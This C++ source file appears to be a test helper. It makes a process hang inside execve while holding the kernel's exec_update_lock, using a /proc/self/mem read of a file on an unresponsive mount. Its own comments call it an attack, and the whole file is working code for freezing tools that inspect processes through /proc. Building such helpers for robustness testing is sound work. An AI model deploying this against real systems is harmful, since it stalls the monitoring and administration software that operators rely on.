// The attack: hanging_exec UID FILE [DOOR]. A process of that user that hangs while it executes a program: it
// has the lock that the kernel takes for what it says of a process (exec_update_lock), and waits for the lock
// of its old memory, which a thread of its parent's holds that reads FILE, on a mount that answers nothing
// any more, by /proc/self/mem. With DOOR it has knocked there before. Says "mapped", then after a line from
// its input "ready" and the number of that process.
#include <fcntl.h>
#include <grp.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <thread>

namespace {

void* g_page;
int g_memory, g_door = -1;
sockaddr_un g_address{};
volatile pid_t g_child = 0;
char g_program[] = "/bin/sleep", g_seconds[] = "300";
char* g_arguments[] = {g_program, g_seconds, nullptr};
char* g_environment[] = {nullptr};

// Until the kernel is where it hangs, of which it tells nobody.
void Nap(int ms) { std::this_thread::sleep_for(std::chrono::milliseconds(ms)); }

// Nothing here may take memory: whoever asks for some waits for the lock.
void Execute() {
  Nap(900);
  if (::vfork() == 0) {
    g_child = ::getpid();
    if (g_door >= 0)
      (void)!::connect(g_door, reinterpret_cast<const sockaddr*>(&g_address), sizeof g_address);
    ::execve(g_program, g_arguments, g_environment);
    ::_exit(1);
  }
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 3) return 2;
  const auto user = static_cast<uid_t>(std::atoi(argv[1]));
  if (::setgroups(0, nullptr) != 0 || ::setresgid(user, user, user) != 0 ||
      ::setresuid(user, user, user) != 0)
    return 1;
  ::prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);  // as if it had always been that user's
  const int file = ::open(argv[2], O_RDONLY);
  g_page = ::mmap(nullptr, 4096, PROT_READ, MAP_SHARED, file, 0);
  g_memory = ::open("/proc/self/mem", O_RDONLY);
  if (argc > 3) {
    g_address.sun_family = AF_UNIX;
    std::strncpy(g_address.sun_path, argv[3], sizeof g_address.sun_path - 1);
    g_door = ::socket(AF_UNIX, SOCK_SEQPACKET, 0);
  }
  std::puts("mapped");
  std::fflush(stdout);
  char line[16];
  if (std::fgets(line, sizeof line, stdin) == nullptr) return 1;
  std::thread([] {  // holds the lock
    Nap(300);
    char byte;
    (void)!::pread(g_memory, &byte, 1, static_cast<off_t>(reinterpret_cast<uintptr_t>(g_page)));
  })
      .detach();
  std::thread([] {  // waits to change the memory, and everybody behind it
    Nap(600);
    ::mmap(nullptr, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  })
      .detach();
  std::thread(Execute).detach();
  while (g_child == 0) Nap(50);
  Nap(300);
  char said[32];
  const int bytes = std::snprintf(said, sizeof said, "ready %d\n", static_cast<int>(g_child));
  (void)!::write(STDOUT_FILENO, said, static_cast<size_t>(bytes));
  for (;;) Nap(1000);
}
